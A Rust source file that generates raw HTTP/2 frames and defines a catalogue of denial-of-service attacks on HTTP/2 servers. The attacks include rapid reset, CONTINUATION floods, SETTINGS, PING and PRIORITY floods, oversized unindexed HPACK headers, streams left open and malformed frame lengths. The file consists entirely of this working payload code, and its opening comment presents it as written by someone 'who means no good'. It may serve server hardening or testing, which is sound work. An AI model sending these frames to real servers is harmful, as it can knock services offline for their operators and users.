//! HTTP/2 frames (RFC 9113, 4.1) as somebody writes them who means no good.

/// What opens a connection: the preface and empty SETTINGS.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// POST / of no host, in HPACK's static table.
const POST: &[u8] = &[0x83, 0x86, 0x84];
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// One attack: what is said first, and what is said again and again behind it.
pub struct Attack {
    pub name: &'static str,
    pub first: Vec<u8>,
    pub again: Box<dyn FnMut() -> Vec<u8> + Send>,
}

fn attack(name: &'static str, first: Vec<u8>, again: impl FnMut() -> Vec<u8> + Send + 'static) -> Attack {
    Attack { name, first, again: Box::new(again) }
}

/// All that is known to have brought servers down, and some that only might.
pub fn attacks() -> Vec<Attack> {
    let mut next = 1;
    let rapid_reset = move || {
        let mut bytes = vec![];
        for _ in 0..100 {
            bytes.extend(frame(1, END_HEADERS, next, POST));
            bytes.extend(frame(3, 0, next, &8u32.to_be_bytes()));
            next += 2;
        }
        bytes
    };
    // A literal header of 12 KB that is never indexed: name "a", value of so many bytes.
    let mut large = POST.to_vec();
    large.extend([0x10, 1, b'a', 0x7f, 0x81, 0x5d]);
    large.extend(vec![b'b'; 12_000]);
    let mut stream = 1;
    let large_headers = move || {
        let mut bytes = frame(1, 0, stream, &large);
        bytes.extend((0..4).flat_map(|_| frame(9, 0, stream, &large[3..])));
        bytes.extend(frame(9, END_HEADERS, stream, &[]));
        stream += 2;
        bytes
    };
    let mut opened = 1;
    let never_ending = move || {
        opened += 2;
        frame(1, END_HEADERS, opened, POST)
    };
    vec![
        attack("rapid reset", vec![], rapid_reset),
        attack("continuations without end", frame(1, 0, 1, POST), || frame(9, 0, 1, &[0; 16_384])),
        attack("empty continuations", frame(1, 0, 1, POST), || frame(9, 0, 1, &[]).repeat(500)),
        attack("settings", vec![], || frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(500)),
        attack("pings", vec![], || frame(6, 0, 0, &[7; 8]).repeat(500)),
        attack("oversized headers", vec![], large_headers),
        attack("streams that never end", vec![], never_ending),
        attack("a frame longer than allowed", vec![], || vec![0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]),
        attack("window updates", vec![], || frame(8, 0, 0, &0x7fff_ffffu32.to_be_bytes())),
        attack("priorities", vec![], || frame(2, 0, 3, &[0, 0, 0, 1, 9]).repeat(500)),
        attack("data of no stream", vec![], || frame(0, END_STREAM, 9, &[0; 16_000])),
    ]
}
